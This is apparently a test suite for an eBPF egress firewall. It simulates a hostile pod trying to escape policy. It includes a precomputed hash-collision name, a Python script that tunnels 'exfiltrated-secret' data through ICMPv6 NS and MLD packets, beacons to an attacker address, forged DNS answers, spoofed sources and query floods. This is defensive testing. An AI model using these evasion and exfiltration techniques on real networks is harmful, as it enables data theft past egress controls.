/*
 * The attacker's file: a shell inside an enforced pod tries every way out
 * that the datapath's exemptions once left open. Each test
 * asserts that one escape is closed, with real programs, the real agent, a
 * real dnsmasq and real clients in the node-in-a-box; the kernel-only ones
 * run the learner under BPF_PROG_TEST_RUN where a node's secret must be
 * pinned to a known value to aim a collision at it.
 */
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { writeFileSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { requireKernelTestEnv, sleep, NETTOOL, SILENT_RESOLVER, OUTSIDE_LINK_V4 } from '../helpers/topology.js';
import { withAgentBox, ZONE, type AgentBox } from '../helpers/agent-fixture.js';
import { LearnerHarness } from '../helpers/learner-harness.js';
import { buildFrame } from '../helpers/frames.js';
import { native } from '../../agent/datapath/native.js';

const TC_ACT_SHOT = 2;
import { egressctl } from '../helpers/egressctl.js';
import { AllowSource, PolicyKind } from '../../agent/datapath/codecs.js';
import { formatIp, parseIp } from '../../agent/net/addr.js';
import { nameHash, nameToWire } from '../../agent/policy/name-hash.js';

const TOOLS = ['dnsmasq', 'dig', 'curl', 'nsenter'];

/*
 * A first label found by a lattice search against unkeyed FNV-1a: with it,
 * "<label>.856054.attacker.example" hashes exactly like "api.allowed.com".
 */
const COLLIDING_LABEL = Buffer.from('00030505050705000303020c051d01010f0300007d03', 'hex');
const COLLIDING_NAME_DIG = `${[...COLLIDING_LABEL].map((b) => (b >= 0x21 && b <= 0x7e && b !== 0x2e && b !== 0x5c ? String.fromCharCode(b) : `\\${String(b).padStart(3, '0')}`)).join('')}.856054.attacker.example`;
const ATTACKER_IP = '198.51.100.10'; // a real server listens there

function allowedIps(box: AgentBox, identity?: number): string[] {
  return box.maps((dp) =>
    dp.maps.allow
      .entries()
      .filter(([k]) => identity === undefined || k.identity === identity)
      .map(([k]) => formatIp(k.addr)),
  );
}

function identityOf(box: AgentBox, pod: string): number {
  const found = box.maps((dp) => dp.maps.pods.entries().find(([, info]) => info.name === pod));
  assert.ok(found, `pod ${pod} has an identity`);
  return found[0];
}

async function drops(
  box: AgentBox,
): Promise<Array<{ pod: string; reason: string; destination: string; proto: string }>> {
  const r = await egressctl(['drops', '--output', 'json', '--pin-dir', box.topo.pinDir], box.topo.nodeNsPath);
  assert.equal(r.code, 0, r.stderr);
  return (JSON.parse(r.stdout) as { drops: Array<{ pod: string; reason: string; destination: string; proto: string }> })
    .drops;
}

/** A UDP frame from the resolver to the pod carrying the answer for a raw wire name. */
function answerForWireName(h: LearnerHarness, wire: Buffer, id: number, sport: number, ip: string): Buffer {
  const spec = { name: 'x.invalid', id, sport, ips: [ip] };
  const placeholder = Buffer.from('01780769' + '6e76616c696400', 'hex'); // x.invalid, as dns-packet writes it (uncompressed)
  const parts: Buffer[] = [];
  let rest = LearnerHarness.answerPayload(spec);
  for (let at = rest.indexOf(placeholder); at >= 0; at = rest.indexOf(placeholder)) {
    parts.push(rest.subarray(0, at), wire);
    rest = rest.subarray(at + placeholder.length);
  }
  return h.frame(spec, Buffer.concat([...parts, rest]));
}

test('a name-hash collision teaches the kernel nothing: the real name is compared (exact and wildcard rules)', (t) => {
  if (!requireKernelTestEnv(t)) return;
  const h = LearnerHarness.open();
  try {
    assert.equal(h.hashKey, 0n, 'this harness runs the unkeyed hash, the one the collision was computed for');
    const colliding = Buffer.concat([
      Buffer.from([COLLIDING_LABEL.length]),
      COLLIDING_LABEL,
      nameToWire('856054.attacker.example'),
    ]);
    assert.equal(nameHash('api.allowed.com'), 0xa61f5a5783423a5fn, 'the collision is real');
    h.allowName(PolicyKind.exact, 'api.allowed.com');
    h.expectQuery(7, 41000);
    h.run(answerForWireName(h, colliding, 7, 41000, ATTACKER_IP));
    assert.deepEqual([...h.learned().keys()], [], 'exact rule: nothing learned for the colliding name');
    assert.equal(h.counters().learnRefused, 1n, 'the hash hit and the name did not: counted');

    h.dp.maps.policy.deleteMany(h.dp.maps.policy.entries().map(([k]) => k));
    h.allowName(PolicyKind.wildcard, 'api.allowed.com'); // *.api.allowed.com
    h.expectQuery(8, 41001);
    h.run(answerForWireName(h, Buffer.concat([Buffer.from('03777777', 'hex'), colliding]), 8, 41001, ATTACKER_IP));
    assert.deepEqual([...h.learned().keys()], [], 'wildcard rule: nothing learned for www.<colliding name>');
    assert.equal(h.counters().learnRefused, 2n);

    h.expectQuery(9, 41002);
    h.run(h.frame({ name: 'www.api.allowed.com', id: 9, sport: 41002, ips: ['203.0.113.10'] }));
    assert.deepEqual([...h.learned().keys()], ['203.0.113.10'], 'the real name under the wildcard still counts');
  } finally {
    h.close();
  }
});

test('a name-hash collision through the real resolver: no entry, the connection refused, the drop reported', async (t) => {
  if (!requireKernelTestEnv(t, TOOLS)) return;
  await withAgentBox(
    t,
    [{ name: 'a' }],
    { dnsmasqArgs: [`--address=/attacker.example/${ATTACKER_IP}`] },
    async (box) => {
      // the DNS query filter off, so the answer reaches the learners, whose real-name comparison is what this tests
      // (with it on, the query is refused before the resolver sees it: test/kernel/dns-query-filter.test.ts)
      box.writePods([{ name: 'a', allow: 'api.allowed.com, *.api.allowed.com', dnsFilter: 'off' }]);
      await box.startAgent();
      const key = box.maps((dp) => dp.maps.hashKey.get(0) ?? 0n);
      assert.notEqual(key, 0n, 'the node has a secret hash key');
      assert.notEqual(
        nameHash('api.allowed.com', key),
        nameHash('api.allowed.com'),
        'so a collision against the unkeyed hash misses',
      );
      for (const name of [COLLIDING_NAME_DIG, `www.${COLLIDING_NAME_DIG}`]) {
        assert.deepEqual(await box.dig('a', name), [ATTACKER_IP], `the attacker's zone answers ${name}`);
        assert.equal(await box.connect('a', ATTACKER_IP, 443), false, 'the connection is refused');
      }
      await sleep(5500); // past the agent's import of kernel-learned entries
      assert.deepEqual(allowedIps(box), [], 'no allow entry was written, by the kernel or the agent');
      assert.equal(await box.connect('a', ATTACKER_IP, 443), false);
      const seen = await drops(box);
      assert.ok(
        seen.some((d) => d.pod === 'shop/a' && d.destination === ATTACKER_IP && d.reason === 'not-allowed'),
        'egressctl drops shows the attempt',
      );
      assert.ok(
        (await box.metric('fqdn_egress_pod_packets_total', { pod: 'a', reason: 'not-allowed' })) > 0,
        'and the counters',
      );
    },
  );
});

const RAW_ICMP6 = `
import socket, sys
kind, dst, count = sys.argv[1], sys.argv[2], int(sys.argv[3])
s = socket.socket(socket.AF_INET6, socket.SOCK_RAW, socket.IPPROTO_ICMPV6)
s.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_UNICAST_HOPS, 255)
s.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_MULTICAST_HOPS, 255)
msg = (bytes([135, 0, 0, 0, 0, 0, 0, 0]) + socket.inet_pton(socket.AF_INET6, dst) if kind == 'ns' else bytes([143, 0, 0, 0, 0, 0, 0, 1]) + bytes([4, 0, 0, 1]) + socket.inet_pton(socket.AF_INET6, 'ff05::1:3')) + b'exfiltrated-secret' * 8
for _ in range(count):
    s.sendto(msg, (dst, 0))
print('sent', count)
`;

const RAW_ICMP6_SINK = `
import socket, sys, select, time
s = socket.socket(socket.AF_INET6, socket.SOCK_RAW, socket.IPPROTO_ICMPV6)
print('ready', flush=True)
seen, end = 0, time.time() + float(sys.argv[1])
while time.time() < end:
    r, _, _ = select.select([s], [], [], 0.1)
    if r:
        data, addr = s.recvfrom(4096)
        if b'exfiltrated-secret' in data: seen += 1
print('seen', seen, flush=True)
`;

test('ICMPv6 link control is no tunnel: NS and MLD with data to a global address are dropped, real ND still works', async (t) => {
  if (!requireKernelTestEnv(t, [...TOOLS, 'python3', 'ping'])) return;
  await withAgentBox(t, [{ name: 'a' }], {}, async (box) => {
    const dir = join(tmpdir(), `fqe-icmp6-${process.pid}-${Date.now()}`);
    writeFileSync(`${dir}-send.py`, RAW_ICMP6);
    writeFileSync(`${dir}-sink.py`, RAW_ICMP6_SINK);
    try {
      box.writePods([{ name: 'a', allow: 'api.stripe.test' }]);
      await box.startAgent();
      const id = identityOf(box, 'a');
      const sink = await box.topo.spawnReady(box.topo.outNs, ['python3', `${dir}-sink.py`, '6'], /ready/);
      let sinkOut = '';
      sink.stdout!.on('data', (d: Buffer) => (sinkOut += d.toString()));
      const sinkDone = new Promise((resolve) => (sink.exitCode !== null ? resolve(null) : sink.once('exit', resolve)));
      const pod = box.topo.pod('a');
      await box.topo.exec(pod.netns, ['python3', `${dir}-send.py`, 'ns', '2001:db8:ff::10', '20']);
      await box.topo.exec(pod.netns, ['python3', `${dir}-send.py`, 'mld', '2001:db8:ff::11', '20']);
      await sinkDone;
      assert.match(sinkOut, /seen 0\b/, `nothing reached the outside (${sinkOut.trim()})`);
      const dropped = box.maps((dp) => dp.maps.counters.get(id)?.reasons['not-allowed'] ?? 0n);
      assert.ok(dropped >= 40n, `every crafted NS and MLD was refused (${dropped})`);
      // Real neighbour discovery keeps IPv6 working: a connection to an allowed name over IPv6 goes.
      await box.topo.ip(pod.netns, '-6', 'neigh', 'flush', 'all');
      assert.deepEqual(await box.dig('a', 'api.stripe.test', 'AAAA'), ['2001:db8:ff::10']);
      assert.equal(
        await box.connect('a', '2001:db8:ff::10'),
        true,
        'TCP over IPv6 to an allowed name, after a neighbour flush',
      );
      assert.equal(await box.connect('a', '2001:db8:ff::11', 443, 500), false, 'to a name never answered: dropped');
      // A rule without a port allows TCP and UDP, not every IP protocol: no ping, even to the allowed name.
      await assert.rejects(
        box.topo.exec(pod.netns, ['ping', '-6', '-c', '1', '-W', '1', '2001:db8:ff::10']),
        'ICMP echo to an allowed name is dropped',
      );
    } finally {
      rmSync(`${dir}-send.py`, { force: true });
      rmSync(`${dir}-sink.py`, { force: true });
    }
  });
});

/** Run `nettool hold` in a pod; resolves to its last JSON line once it ends. */
function hold(
  box: AgentBox,
  pod: string,
  proto: 'tcp' | 'udp',
  host: string,
  port: number,
  seconds: number,
): { connected: Promise<void>; result: Promise<{ ok: boolean; error?: string; echoes: number }> } {
  const child = box.topo.spawn(box.topo.pod(pod).netns, [
    process.execPath,
    NETTOOL,
    'hold',
    proto,
    host,
    String(port),
    '--seconds',
    String(seconds),
  ]);
  let out = '';
  let onConnected: () => void;
  const connected = new Promise<void>((resolve) => (onConnected = resolve));
  child.stdout!.on('data', (d: Buffer) => {
    out += d.toString();
    if (out.includes('connected')) onConnected();
  });
  const result = new Promise<{ ok: boolean; error?: string; echoes: number }>((resolve) => {
    child.once('exit', () =>
      resolve(JSON.parse(out.trim().split('\n').pop() ?? '{"ok":false,"echoes":0}') as { ok: boolean; echoes: number }),
    );
  });
  return { connected, result };
}

test('flows that only audit mode let through are cut when the pod switches to enforce; allowed ones go on', async (t) => {
  if (!requireKernelTestEnv(t, TOOLS)) return;
  await withAgentBox(t, [{ name: 'a' }], {}, async (box) => {
    box.writePods([{ name: 'a', allow: 'api.stripe.test', mode: 'audit' }]);
    await box.startAgent();
    assert.deepEqual(await box.dig('a', 'api.stripe.test'), [ZONE['api.stripe.test']![0]]);
    const beaconTcp = hold(box, 'a', 'tcp', '198.51.100.10', 443, 4);
    const beaconUdp = hold(box, 'a', 'udp', '198.51.100.10', 5000, 4);
    const allowed = hold(box, 'a', 'tcp', '203.0.113.10', 443, 4);
    await Promise.all([beaconTcp.connected, beaconUdp.connected, allowed.connected]);
    await sleep(1000);
    box.writePods([{ name: 'a', allow: 'api.stripe.test' }]);
    const ifindex = box.topo.pod('a').ifindex;
    await box.waitFor('the pod enforced', () => box.maps((dp) => dp.maps.endpoints.get(ifindex)?.flags === 1));
    const enforcedAt = Date.now();
    const ended = (r: Promise<{ ok: boolean; error?: string; echoes: number }>) =>
      r.then((v) => ({ ...v, at: Date.now() }));
    const [tcp, udp, ok] = await Promise.all([ended(beaconTcp.result), ended(beaconUdp.result), allowed.result]);
    assert.equal(tcp.ok, false, `the TCP beacon opened during audit is cut (${tcp.error}, ${tcp.echoes} echoes)`);
    assert.equal(udp.ok, false, `the UDP beacon opened during audit is cut (${udp.error}, ${udp.echoes} echoes)`);
    assert.equal(ok.ok, true, `the allowed flow opened during audit goes on (${ok.error})`);
    // A beacon notices a missing echo 200-400 ms after it went missing.
    for (const [what, r] of [
      ['tcp', tcp],
      ['udp', udp],
    ] as const)
      assert.ok(r.at - enforcedAt <= 1000, `${what} beacon stopped ${r.at - enforcedAt} ms after the switch`);
    const seen = await drops(box);
    assert.ok(
      seen.some((d) => d.reason === 'audit-ended' && d.destination === '198.51.100.10'),
      'the cut is reported as audit-ended',
    );
  });
});

test('a recycled identity inherits nothing: purge scans every map, identities are not handed out again', async (t) => {
  if (!requireKernelTestEnv(t, TOOLS)) return;
  await withAgentBox(t, [{ name: 'a' }, { name: 'b' }], {}, async (box) => {
    box.writePods([{ name: 'a', allow: 'api.stripe.test' }]);
    await box.startAgent();
    const idA = identityOf(box, 'a');
    assert.equal(await box.stopAgent('SIGKILL'), null);
    // The agent is down: the kernel learns for A on its own.
    assert.deepEqual(await box.dig('a', 'api.stripe.test'), [ZONE['api.stripe.test']![0]]);
    assert.equal(await box.connect('a', '203.0.113.10', 443), true);
    assert.ok(allowedIps(box, idA).includes('203.0.113.10'), 'the kernel learned for A');
    box.writePods([]); // A is deleted while the agent is down
    await box.startAgent();
    await box.waitFor('every entry of A gone', () =>
      box.maps(
        (dp) =>
          dp.maps.allow.entries().every(([k]) => k.identity !== idA) &&
          dp.maps.conntrack.entries().every(([k]) => k.identity !== idA) &&
          dp.maps.queries.entries().every(([k]) => k.identity !== idA) &&
          dp.maps.owners.entries().every(([k]) => k.identity !== idA) &&
          dp.maps.policy.entries().every(([k]) => k.identity !== idA) &&
          dp.maps.pods.get(idA) === undefined,
      ),
    );
    // A second restart must not hand A's identity out again either.
    await box.stopAgent('SIGKILL');
    await box.startAgent();
    box.writePods([{ name: 'b', allow: 'www.kadath.test' }]);
    await box.waitFor('B enforced', () => box.maps((dp) => dp.maps.pods.entries().some(([, i]) => i.name === 'b')));
    const idB = identityOf(box, 'b');
    assert.deepEqual(allowedIps(box, idB), [], "B's identity holds nothing it did not learn");
    assert.equal(await box.connect('b', '203.0.113.10', 443), false, "B reaches nothing of A's");
  });
});

test('a query is good for one answer within the window: a late forged answer teaches nothing; a flood stays bounded', async (t) => {
  if (!requireKernelTestEnv(t, TOOLS)) return;
  await withAgentBox(t, [{ name: 'a' }], { agentArgs: ['--query-window', '1s'] }, async (box) => {
    box.writePods([{ name: 'a', allow: 'api.stripe.test' }]);
    await box.startAgent();
    const pod = box.topo.pod('a');
    const query = (id: number, sport: number) =>
      box.topo.queryFrom(pod.netns, SILENT_RESOLVER, 'api.stripe.test', id, sport);
    const forge = (id: number, sport: number, answer: string) =>
      box.topo.forgeAnswerFrom(box.topo.outNs, {
        from: SILENT_RESOLVER,
        to: pod.v4,
        port: sport,
        id,
        name: 'api.stripe.test',
        answer,
      });
    // Control: an answer inside the window counts (the forging path works).
    await query(100, 45100);
    await forge(100, 45100, '203.0.113.11');
    await box.waitFor('the timely answer learned', () => allowedIps(box).includes('203.0.113.11'));
    // The same query answered again: good for one answer only.
    await forge(100, 45100, '203.0.113.12');
    // A query older than the window.
    await query(101, 45101);
    await sleep(1500);
    await forge(101, 45101, '198.51.100.11');
    await sleep(5500); // past the agent's import
    const ips = allowedIps(box);
    assert.ok(!ips.includes('203.0.113.12'), 'a second answer to one query teaches nothing');
    assert.ok(!ips.includes('198.51.100.11'), 'an answer after the window teaches nothing');
    assert.equal(await box.connect('a', '198.51.100.11', 443), false);
    // A flood of queries: the map stays bounded, and old entries age out of use.
    await box.topo.exec(
      pod.netns,
      [process.execPath, NETTOOL, 'query-flood', SILENT_RESOLVER, '--count', '70000'],
      120_000,
    );
    const pending = box.maps((dp) => dp.maps.queries.entries().length);
    assert.ok(pending <= 65_536, `fqe_queries holds ${pending} entries, at most its capacity`);
  });
});

test('allowCIDRs and learned entries do not shadow each other, and families stay apart', async (t) => {
  if (!requireKernelTestEnv(t, TOOLS)) return;
  await withAgentBox(t, [{ name: 'a' }], { agentArgs: ['--allow-cidrs', '198.51.100.0/24,::/0'] }, async (box) => {
    box.writePods([{ name: 'a', allow: 'kadath.test:80' }]);
    await box.startAgent();
    assert.equal(await box.connect('a', '198.51.100.11', 443), true, 'the prefix allows any port');
    assert.deepEqual(await box.dig('a', 'kadath.test'), ['198.51.100.11']);
    assert.ok(allowedIps(box).includes('198.51.100.11'), 'the learned entry (port 80 only) is written');
    assert.equal(
      await box.connect('a', '198.51.100.11', 443),
      true,
      'the learned port-80 entry does not hide the covering prefix',
    );
    assert.equal(await box.connect('a', '198.51.100.11', 80), true);
    assert.equal(await box.connect('a', '203.0.113.10', 443), false, '::/0 does not cover IPv4');
    assert.equal(await box.connect('a', '2001:db8:ff::12', 443), true, '::/0 covers IPv6');
  });
});

test('TTL 0 still allows the connection the pod opens right after its answer (CNAME chain, --min-ttl 0s)', async (t) => {
  if (!requireKernelTestEnv(t, TOOLS)) return;
  await withAgentBox(
    t,
    [{ name: 'a' }],
    { agentArgs: ['--min-ttl', '0s'], dnsmasqArgs: ['--local-ttl=0'] },
    async (box) => {
      box.writePods([{ name: 'a', allow: 'cdn.test' }]);
      await box.startAgent();
      const pod = box.topo.pod('a');
      const r = await box.topo.exec(pod.netns, [
        'dig',
        `@${OUTSIDE_LINK_V4.outside}`,
        '+noall',
        '+answer',
        'cdn.test',
        'A',
      ]);
      assert.match(r.stdout, /cdn\.test\.\s+0\s+IN\s+CNAME/, 'dnsmasq answers the chain with TTL 0');
      assert.equal(
        await box.connect('a', ZONE['edge.cdn-provider.test']![0]!, 443),
        true,
        'the connection right after the answer passes',
      );
      const entry = box.maps((dp) =>
        dp.maps.allow.entries().find(([k]) => formatIp(k.addr) === ZONE['edge.cdn-provider.test']![0]),
      );
      assert.ok(entry && entry[1].expiresNs > process.hrtime.bigint(), 'within the connect grace');
    },
  );
});

test('a rule without a port allows TCP and UDP, not every IP protocol: ICMP, GRE and SCTP to an allowed address are dropped', (t) => {
  if (!requireKernelTestEnv(t)) return;
  const h = LearnerHarness.open();
  try {
    const dst = '203.0.113.10';
    h.dp.maps.allow.set(
      { identity: h.identity, addr: parseIp(dst), prefixLen: 128 },
      { expiresNs: 0n, nameHash: 1n, ports: [], source: AllowSource.kernel },
    );
    const enforcer = h.dp.programs!.enforcer;
    assert.equal(
      native.progTestRun(
        enforcer,
        buildFrame({ src: h.podV4, dst, proto: 'tcp', sport: 40100, dport: 8443, tcpFlags: 0x02 }),
      ).retval | 0,
      -1,
      'TCP, any port',
    );
    assert.equal(
      native.progTestRun(
        enforcer,
        buildFrame({ src: h.podV4, dst, proto: 'udp', sport: 40101, dport: 9999, payload: Buffer.from('x') }),
      ).retval | 0,
      -1,
      'UDP, any port',
    );
    for (const [what, proto] of [
      ['ICMP echo', 1],
      ['GRE', 47],
      ['SCTP', 132],
      ['IP-in-IP', 4],
    ] as const) {
      const frame = buildFrame({
        src: h.podV4,
        dst,
        proto: 'udp',
        sport: 0x0800,
        dport: 1,
        payload: Buffer.alloc(32, 0x41),
      });
      frame[14 + 9] = proto; // the IPv4 header's protocol: the same bytes as another protocol's
      assert.equal(native.progTestRun(enforcer, frame).retval, TC_ACT_SHOT, `${what}: dropped`);
    }
    assert.equal(h.dp.maps.counters.get(h.identity)!.reasons.port, 4n, 'as port (the rule lists TCP and UDP)');
  } finally {
    h.close();
  }
});

test('a tracked flow is no way around the source check: no flow is tracked for an address the pod does not own, and a spoofed source stays dropped', (t) => {
  if (!requireKernelTestEnv(t)) return;
  const h = LearnerHarness.open();
  try {
    const notOwned = '198.18.1.99';
    const peer = '203.0.113.50';
    const enforcer = h.dp.programs!.enforcer;
    // A flow opened towards an address routed to the pod's interface that the pod does not own.
    h.run(buildFrame({ src: peer, dst: notOwned, proto: 'tcp', sport: 443, dport: 40000, tcpFlags: 0x02 }));
    h.run(buildFrame({ src: peer, dst: notOwned, proto: 'udp', sport: 5000, dport: 40001, payload: Buffer.from('x') }));
    assert.deepEqual(
      h.dp.maps.conntrack.entries().map(([k]) => formatIp(k.podAddr)),
      [],
      'nothing tracked for it',
    );
    // The pod answering from that address: dropped as spoofed, however it looks like a reply.
    for (const frame of [
      buildFrame({ src: notOwned, dst: peer, proto: 'tcp', sport: 40000, dport: 443, tcpFlags: 0x12 }),
      buildFrame({ src: notOwned, dst: peer, proto: 'udp', sport: 40001, dport: 5000, payload: Buffer.from('y') }),
    ]) {
      assert.equal(native.progTestRun(enforcer, frame).retval, TC_ACT_SHOT);
    }
    assert.equal(h.dp.maps.counters.get(h.identity)!.reasons.spoofed, 2n);
    // The control: the same towards the pod's own address is tracked, and its reply passes.
    h.run(buildFrame({ src: peer, dst: h.podV4, proto: 'tcp', sport: 443, dport: 40000, tcpFlags: 0x02 }));
    assert.equal(
      native.progTestRun(
        enforcer,
        buildFrame({ src: h.podV4, dst: peer, proto: 'tcp', sport: 40000, dport: 443, tcpFlags: 0x12 }),
      ).retval | 0,
      -1,
    );
  } finally {
    h.close();
  }
});

test('a pod flooding its resolver cannot flush the node-wide query table: past its recording rate its queries pass unrecorded and are counted', async (t) => {
  if (!requireKernelTestEnv(t)) return;
  const h = LearnerHarness.open();
  try {
    const RATE = 2048; // FQE_QUERIES_PER_SEC, per pod and CPU (a test run stays on one CPU)
    const enforcer = h.dp.programs!.enforcer;
    h.allowName(PolicyKind.exact, 'api.stripe.test'); // the query filter lets these queries pass
    const query = (id: number) =>
      buildFrame({
        src: h.podV4,
        dst: h.resolver,
        proto: 'udp',
        sport: 40000 + (id % 1000),
        dport: 53,
        payload: LearnerHarness.queryPayload('api.stripe.test', id),
      });
    const flood = native.progTestRun(enforcer, query(1), { repeat: RATE + 100 });
    assert.equal(flood.retval | 0, -1, 'queries pass');
    const recorded = () => h.dp.maps.queries.entries().map(([k]) => k.dnsId);
    assert.equal(native.progTestRun(enforcer, query(2)).retval | 0, -1, 'a query past the rate still passes');
    assert.deepEqual(recorded(), [1], 'but is not recorded');
    assert.ok(h.dp.maps.queryRate.get(h.identity)!.unrecorded >= 100n, 'counted');
    await sleep(1100);
    native.progTestRun(enforcer, query(3));
    assert.deepEqual(recorded().sort(), [1, 3], 'the next second records again');
  } finally {
    h.close();
  }
});
